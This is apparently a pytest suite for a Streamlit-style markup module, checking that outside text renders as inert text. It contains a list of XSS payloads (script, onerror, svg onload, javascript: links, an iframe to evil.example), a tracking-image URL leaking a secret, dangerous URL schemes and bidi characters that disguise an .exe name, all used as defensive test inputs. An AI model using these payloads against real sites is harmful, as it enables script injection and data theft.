"""What comes from outside shows as text and never runs, opens or fetches anything."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from orchestrator.actions import placeholder
from studio.markup import cell, code, facts, literal, plain, prose, safe_url, table, with_chips

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<style>*{display:none}</style>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_html_from_outside_is_text(text: str) -> None:
    for html in (prose(text), literal(text), table([text], [[text]]), facts([(text, text)])):
        for tag in ("<script", "<img", "<svg", "<iframe", "<style", "<a href='java"):
            assert tag not in html


@pytest.mark.parametrize(
    "text", ["[x](javascript:alert(1))", "[x](data:text/html,<b>)", "[x](vbscript:x)", "[x](file:///x)"]
)
def test_a_dangerous_link_is_no_link(text: str) -> None:
    assert "<a" not in prose(text)


def test_a_picture_is_not_fetched() -> None:
    assert "<img" not in prose("![pixel](https://evil.example/?secret=1)")


def test_prose_keeps_what_a_reader_needs() -> None:
    html = prose("# Inbox\n\n- one\n- **two**\n\n[site](https://a.example)\n\n| a | b |\n|---|---|\n| 1 | 2 |")

    for part in ("<h1>Inbox</h1>", "<li>one</li>", "<strong>two</strong>", 'href="https://a.example"', "<td>2</td>"):
        assert part in html


@pytest.mark.parametrize(
    "text",
    [
        "# no heading",
        "1. no list",
        "- no list",
        "*no* _emphasis_ `code`",
        "[no](link)",
        "![no](picture)",
        "> no",
        "<b>",
    ],
)
def test_plain_text_is_not_read_as_markdown(text: str) -> None:
    rendered = MarkdownIt("commonmark").render(plain(text))

    for tag in ("<h1", "<ol", "<ul", "<em", "<code", "<a", "<img", "<blockquote", "<b>"):
        assert tag not in rendered


def test_plain_text_is_one_line() -> None:
    assert plain("one\n\n  two") == "one two"


@pytest.mark.parametrize("address", ["https://evil.example", "www.evil.example", "someone@evil.example"])
def test_an_address_in_plain_text_does_not_become_a_link(address: str) -> None:
    assert address not in plain(address).replace("\\", "")


@pytest.mark.parametrize("text", ["a", "a`b", "``", "a\n\n# b", "`:red[x]`", "<b>"])
def test_code_is_shown_as_it_is_whatever_stands_in_it(text: str) -> None:
    [line] = MarkdownIt("commonmark").parse(code(text))[1:-1]
    assert [(part.type, part.content) for part in line.children or ()] == [("code_inline", " ".join(text.split()))]


@pytest.mark.parametrize("sign", ["<->", "->", "<-", "--", ">=", "<=", "~="])
def test_a_sign_in_plain_text_does_not_become_an_arrow(sign: str) -> None:
    """Streamlit looks for them between spaces, in the text that Markdown gives: no backslash helps."""
    shown = plain(f"a {sign} b").replace("\\", "")
    assert f" {sign} " not in shown
    assert sign in shown


@pytest.mark.parametrize("icon", [":material/delete:", ":streamlit:", ":smile:", ":+1:"])
def test_a_name_in_plain_text_does_not_become_an_icon(icon: str) -> None:
    assert icon not in plain(icon).replace("\\", "")


@pytest.mark.parametrize("sign", list("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"))
def test_no_text_turns_the_order_of_its_signs_around(sign: str) -> None:
    text = f"invoice{sign}fdp.exe"
    shown = (plain(text), prose(text), literal(text), table([], [[text]]), facts([("Name", text)]))
    assert all(sign not in html for html in shown)


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,x", "//evil.example", "/x", "", None, "http://[", "file:///x"]
)
def test_only_web_addresses_are_led_to(url: str | None) -> None:
    assert safe_url(url) is None


def test_a_web_address_is_led_to() -> None:
    assert safe_url("https://github.com/a/b") == "https://github.com/a/b"


@pytest.mark.parametrize(
    ("value", "said"),
    [
        (None, ""),
        (True, "yes"),
        ([1, 2], "2 items"),
        ({"a": 1}, "1 field"),
        ("a\n b", "a b"),
        ("x" * 200, "x" * 119 + "…"),
        ("2026-11-21T09:58:00+00:00", "2026-11-21 09:58"),
    ],
)
def test_a_value_in_a_table_is_short(value: object, said: str) -> None:
    assert cell(value) == said


class TestAChip:
    def test_stands_for_what_is_chosen_later_and_says_by_whom(self) -> None:
        html = with_chips(
            prose(f"see {placeholder('page link')} and {placeholder('mark')}"), {placeholder("page link"): "Notion"}
        )

        assert '<span class="pb-chip" title="chosen by Notion when it is made">page link</span>' in html
        assert '<span class="pb-chip" title="filled in when it is sent">mark</span>' in html

    def test_is_not_made_of_a_text_that_has_such_quotes(self) -> None:
        assert "pb-chip" not in with_chips(prose("il a dit ‹oui›"), {})

    def test_never_stands_inside_a_tag(self) -> None:
        html = with_chips(prose(f'[x](https://a.example "{placeholder("page link")} >{placeholder("id")}")'), {})
        assert "pb-chip" not in html

    @pytest.mark.parametrize("text", HOSTILE)
    def test_lets_no_html_through(self, text: str) -> None:
        html = with_chips(prose(f"{placeholder(text)} {text}"), {placeholder(text): text})
        for tag in ("<script", "<img", "<svg", "<iframe", "<style", "<a href='java"):
            assert tag not in html
